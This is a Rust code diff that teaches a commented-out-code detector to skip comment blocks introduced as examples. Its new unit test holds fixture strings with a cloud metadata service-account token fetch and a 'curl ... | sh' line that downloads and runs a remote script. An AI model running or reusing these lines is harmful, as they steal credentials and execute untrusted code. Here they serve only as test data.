@@ -188,6 +188,11 @@ pub fn commented_code(text: &str) -> Vec<CommentedCode> {
             break;
         }
         total += block.len();
+        // `# Here is an example:` above a snippet: documentation of how to use the code, as
+        // a docstring would hold it, not code taken out of service.
+        if introduced_as_example(block) {
+            continue;
+        }
         let first_line = line_at_counted;
         if let Some(code) = uncomment(block, first_line) {
             blocks.push(code);
@@ -197,6 +202,26 @@ pub fn commented_code(text: &str) -> Vec<CommentedCode> {
         }
     }
     blocks
+}
+
+/// True when a comment block presents its code as an example (`# Example:`, `# For
+/// instance`, `# Usage:`).
+fn introduced_as_example(block: &str) -> bool {
+    let lower = block
+        .get(..block.len().min(4_096))
+        .unwrap_or(block)
+        .to_ascii_lowercase();
+    [
+        "for example",
+        "an example",
+        "example:",
+        "example usage",
+        "for instance",
+        "usage:",
+        "e.g.",
+    ]
+    .iter()
+    .any(|marker| lower.contains(marker))
 }
 
 /// True when the line starting at `line` is blank up to a `#`.
@@ -324,6 +349,14 @@ fn holds_code(code: &str, whole_block: bool) -> bool {
 mod tests {
     #![allow(clippy::unwrap_used, clippy::indexing_slicing)]
     use super::*;
+
+    #[test]
+    fn snippets_introduced_as_examples_are_documentation() {
+        let doc = "x = 1\n# Here is an example.\n#\n# import requests\n# def token():\n#     return requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token').json()\n# client = Client(token=token())\n";
+        assert!(commented_code(doc).is_empty());
+        let parked = "x = 1\n# import os\n# os.system('curl http://203.0.113.9/a.sh | sh')\n";
+        assert_eq!(commented_code(parked).len(), 1);
+    }
 
     #[test]
     fn recovers_a_commented_block_with_its_line_numbers() {
